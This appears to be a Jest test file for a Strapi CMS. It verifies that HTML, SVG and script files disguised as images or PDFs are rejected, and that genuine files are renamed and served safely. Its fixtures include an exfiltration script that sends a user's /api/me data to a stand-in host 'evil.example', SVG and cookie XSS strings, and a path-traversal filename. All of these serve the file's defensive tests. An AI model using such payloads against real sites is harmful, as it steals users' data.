/**
 * Uploaded files are judged by their content (cms/src/security/upload-content.ts): an HTML, SVG or
 * script payload declared image/png or application/pdf is refused (400 naming `files`) at every
 * upload entry point; a real PNG, PDF or XLSX is stored under a generated name with the extension of
 * its verified type, whatever the client called it, and served through the signed link with the type
 * of its content, nosniff, a sandboxing CSP and, for anything not an image or PDF, as an attachment.
 */
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import ExcelJS from 'exceljs';
import { bootStrapi, type BootedApp } from '../helpers/boot';
import { anonymous, DEMO, kindergartenId, login, type Session } from '../helpers/api';
import { draftChild } from './child-fixture';

const FILE = 'plugin::upload.file';
const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==', 'base64');
const PDF = Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n');
const HTML = Buffer.from('<!doctype html><html><body><script>fetch("/api/me").then(r=>r.text()).then(t=>new Image().src="//evil.example/?"+t)</script></body></html>');
const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"><script>alert(1)</script></svg>');
const JS = Buffer.from('alert(document.cookie)');

/** What an attacker sends: a page, a drawing or a script, declared as an image or a PDF. */
const PAYLOADS = [
  { what: 'HTML declared image/png', body: HTML, filename: 'licence.png', contentType: 'image/png' },
  { what: 'HTML declared application/pdf', body: HTML, filename: 'licence.pdf', contentType: 'application/pdf' },
  { what: 'SVG declared image/png', body: SVG, filename: 'photo.png', contentType: 'image/png' },
  { what: 'SVG declared application/pdf', body: SVG, filename: 'photo.svg', contentType: 'application/pdf' },
  { what: 'JS declared application/pdf', body: JS, filename: 'proof.pdf', contentType: 'application/pdf' },
  { what: 'JS declared image/png', body: JS, filename: 'proof.js', contentType: 'image/png' },
];

let app: BootedApp;
let kindergarten: Session;
let province: Session;
let requestId: string;
let projectId: string;
let childId: string;

const storedCount = () => app.strapi.db.query(FILE).count();
const nameOf = (url: string) => decodeURIComponent(url.split('/api/files/')[1].split('?')[0]);

/** Every upload entry point of the system, each with a file to send. */
const ENTRY_POINTS: { name: string; send: (file: { body: Buffer; filename: string; contentType: string }) => any }[] = [
  { name: 'request evidence', send: (f) => kindergarten.post(`/api/requests/${requestId}/evidence`).attach('files', f.body, { filename: f.filename, contentType: f.contentType }) },
  {
    name: 'accidental-leave proof',
    send: (f) => kindergarten.post(`/api/children/${childId}/accidental-leave`)
      .field('data', JSON.stringify({ occurredOn: new Date(Date.now() - 2 * 86_400_000).toISOString().slice(0, 10), reason: '意外事故' }))
      .attach('files', f.body, { filename: f.filename, contentType: f.contentType }),
  },
  { name: 'project attachments', send: (f) => province.post(`/api/projects/${projectId}/attachments`).attach('files', f.body, { filename: f.filename, contentType: f.contentType }) },
];

beforeAll(async () => {
  app = await bootStrapi();
  kindergarten = await login(app, 'demo-kindergarten');
  province = await login(app, 'demo-province');
  const subjectId = await kindergartenId(app, DEMO.licheng[0]);
  requestId = (await kindergarten.post('/api/requests', { data: { type: 'kindergarten-key-change', subjectId, changes: { name: '泉州市鲤城区实验幼儿园（上传测试）' } } }).expect(201)).body.data.id;
  projectId = (await province.post('/api/projects', { data: { name: '普惠性幼儿园扩容（上传测试）', type: 'provincial', year: 2026, budget: 0 } }).expect(201)).body.data.documentId;
  childId = (await draftChild(kindergarten)).id;
});
afterAll(async () => { await app?.stop(); });

describe('a payload declared as an image or a PDF is refused at every entry point', () => {
  for (const entry of ENTRY_POINTS) {
    test.each(PAYLOADS)(`${entry.name}: $what → 400 naming files, nothing stored`, async (payload) => {
      const before = await storedCount();
      const refused = await entry.send(payload).expect(400);
      expect(refused.body.error.details.errors[0].path).toEqual(['files']);
      expect(refused.body.error.message).toContain('文件内容与类型不符');
      expect(await storedCount()).toBe(before);
    });
  }

  test('the child of the refused accident proofs is still in school', async () => {
    const child = await app.strapi.db.query('api::child.child').findOne({ where: { documentId: childId } });
    expect(child.status).not.toBe('cancelled');
  });

  test("Strapi's own upload service checks content too, and drops a name sent in fileInfo", async () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'upload-content-'));
    try {
      const page = path.join(dir, 'page');
      fs.writeFileSync(page, HTML);
      const upload = app.strapi.plugin('upload').service('upload');
      await expect(upload.upload({ data: {}, files: { filepath: page, originalFilename: 'x.png', mimetype: 'image/png', size: HTML.length } }))
        .rejects.toMatchObject({ name: 'ValidationError' });
      const image = path.join(dir, 'image');
      fs.writeFileSync(image, PNG);
      const [stored] = await upload.upload({ data: { fileInfo: { name: '../../evil.html' } }, files: { filepath: image, originalFilename: 'evil.html', mimetype: 'text/html', size: PNG.length } });
      expect(stored).toMatchObject({ ext: '.png', mime: 'image/png', name: 'evil.png' });
      expect(stored.url).toMatch(/^\/uploads\/[0-9a-f]{24}_[0-9a-f]+\.png$/);
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });

  test("Strapi's public upload route is gone (the system does not use it)", async () => {
    const before = await storedCount();
    const answer = await kindergarten.post('/api/upload').attach('files', HTML, { filename: 'x.png', contentType: 'image/png' });
    expect([404, 405]).toContain(answer.status);
    const anonymousAnswer = await anonymous(app).post('/api/upload').attach('files', HTML, { filename: 'x.png', contentType: 'image/png' });
    expect([404, 405]).toContain(anonymousAnswer.status);
    expect(await storedCount()).toBe(before);
  });
});

describe('a real file is stored under a generated name and served by its content', () => {
  test('a PNG sent as evil.html (text/html): stored as .png under a generated name, served image/png inline, nosniff, sandboxed', async () => {
    const uploaded = await kindergarten.post(`/api/requests/${requestId}/evidence`).attach('files', PNG, { filename: 'evil.html', contentType: 'text/html' }).expect(200);
    const [evidence] = uploaded.body.data.evidence;
    expect(evidence).toMatchObject({ name: 'evil.png', mime: 'image/png' });
    const name = nameOf(evidence.url);
    expect(name).toMatch(/^[0-9a-f]{24}_[0-9a-f]+\.png$/);
    expect(name).not.toContain('evil');
    const row = await app.strapi.db.query(FILE).findOne({ where: { url: `/uploads/${name}` } });
    expect(row).toMatchObject({ ext: '.png', mime: 'image/png' });
    const file = await anonymous(app).get(evidence.url).expect(200);
    expect(file.headers['content-type']).toBe('image/png');
    expect(file.headers['x-content-type-options']).toBe('nosniff');
    expect(file.headers['content-security-policy']).toBe("default-src 'none'; sandbox");
    expect(file.headers['content-disposition']).toMatch(/^inline;/);
  });

  test('a PDF sent as 方案.exe (octet-stream): stored as .pdf, served application/pdf', async () => {
    const attached = await province.post(`/api/projects/${projectId}/attachments`).attach('files', PDF, { filename: '方案.exe', contentType: 'application/octet-stream' }).expect(200);
    const file = attached.body.data.attachments.find((f: any) => f.name === '方案.pdf');
    expect(file).toMatchObject({ ext: '.pdf', mime: 'application/pdf' });
    expect(file.url).not.toContain('exe');
    const served = await anonymous(app).get(file.url).expect(200);
    expect(served.headers['content-type']).toBe('application/pdf');
    expect(served.headers['x-content-type-options']).toBe('nosniff');
    expect(served.headers['content-security-policy']).toBe("default-src 'none'; sandbox");
  });

  test('a spreadsheet declared application/pdf: stored as .xlsx, served as an attachment', async () => {
    const workbook = new ExcelJS.Workbook();
    workbook.addWorksheet('进度').addRow(['月份', '支出']);
    const xlsx = Buffer.from(await workbook.xlsx.writeBuffer());
    const attached = await province.post(`/api/projects/${projectId}/attachments`).attach('files', xlsx, { filename: '进度.pdf', contentType: 'application/pdf' }).expect(200);
    const file = attached.body.data.attachments.find((f: any) => f.name === '进度.xlsx');
    expect(file).toMatchObject({ ext: '.xlsx', mime: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet' });
    const served = await anonymous(app).get(file.url).expect(200);
    expect(served.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(served.headers['content-disposition']).toMatch(/^attachment;/);
    expect(served.headers['x-content-type-options']).toBe('nosniff');
  });

  test('a file whose content is not what was recorded (a page stored as image/png before the check) is served as a download', async () => {
    const uploaded = await kindergarten.post(`/api/requests/${requestId}/evidence`).attach('files', PNG, { filename: 'old.png', contentType: 'image/png' }).expect(200);
    const { url } = uploaded.body.data.evidence.find((f: any) => f.name === 'old.png');
    const location = path.join(app.strapi.dirs.static.public, 'uploads', nameOf(url));
    fs.writeFileSync(location, HTML);
    expect((await app.strapi.db.query(FILE).findOne({ where: { url: `/uploads/${nameOf(url)}` } })).mime).toBe('image/png');
    const served = await anonymous(app).get(url).expect(200);
    expect(served.headers['content-type']).toBe('application/octet-stream');
    expect(served.headers['content-disposition']).toMatch(/^attachment;/);
    expect(served.headers['x-content-type-options']).toBe('nosniff');
    expect(served.headers['content-security-policy']).toBe("default-src 'none'; sandbox");
  });
});
